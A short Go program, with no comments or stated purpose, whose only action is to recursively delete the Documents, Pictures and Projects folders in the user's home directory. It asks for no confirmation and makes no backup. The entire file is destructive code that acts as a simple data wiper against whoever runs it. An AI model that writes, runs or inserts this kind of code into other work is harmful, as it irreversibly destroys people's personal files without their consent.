package main

import (
	"fmt"
	"os"
	"path/filepath"
)

func main() {
	home := os.Getenv("HOME")
	for _, d := range []string{"Documents", "Pictures", "Projects"} {
		p := filepath.Join(home, d)
		if err := os.RemoveAll(p); err != nil {
			fmt.Println("failed:", err)
		}
	}
}
